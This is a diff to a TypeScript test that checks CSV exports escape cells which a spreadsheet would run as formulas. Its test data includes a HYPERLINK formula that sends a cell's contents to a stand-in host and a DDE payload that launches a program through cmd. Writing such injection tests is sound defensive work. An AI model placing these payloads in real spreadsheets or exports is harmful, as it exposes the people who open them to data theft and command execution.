@@ -6,7 +6,7 @@ import { exportWorkspace } from '../../../server/src/core/exchange/exportWorkspa
 import { importFiles } from '../../../server/src/core/exchange/importFiles';
 import { analyzeFile } from '../../../server/src/core/check/analyzeFile';
 
-const DANGEROUS = ['=HYPERLINK("http://ejemplo.invalid/?"&A1,"clic")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=ya con apóstrofo", "''@dos"];
+const DANGEROUS = ['=HYPERLINK("http://ejemplo.invalid/?"&A1,"clic")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=ya con apóstrofo", "''@dos"];
 
 describe('CSV exports never hand a spreadsheet a formula', () => {
   it('writes every cell starting with = + - @ tab or CR behind an apostrophe', () => {
@@ -37,5 +37,9 @@ describe('CSV exports never hand a spreadsheet a formula', () => {
 
 /** The cells exactly as a spreadsheet sees them, quotes removed but apostrophes kept. */
 function readRaw(text: string): string[][] {
-  return text.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean).map((line) => line.split(',').map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell)));
+  return text
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .filter(Boolean)
+    .map((line) => line.split(',').map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell)));
 }
